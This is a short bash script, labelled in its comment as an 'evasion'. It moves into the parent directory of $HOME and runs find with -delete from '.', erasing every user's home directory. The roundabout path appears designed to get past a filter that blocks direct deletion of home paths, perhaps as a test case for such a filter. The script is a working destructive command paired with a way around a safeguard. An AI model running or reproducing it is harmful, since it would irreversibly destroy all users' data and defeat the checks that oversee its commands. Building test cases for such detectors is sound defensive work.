#!/bin/bash
# evasion: pushd into the parent of the home (every user's home) and delete from "." with find
pushd "$HOME/.." >/dev/null || exit 1
find . -mindepth 1 -delete
popd >/dev/null
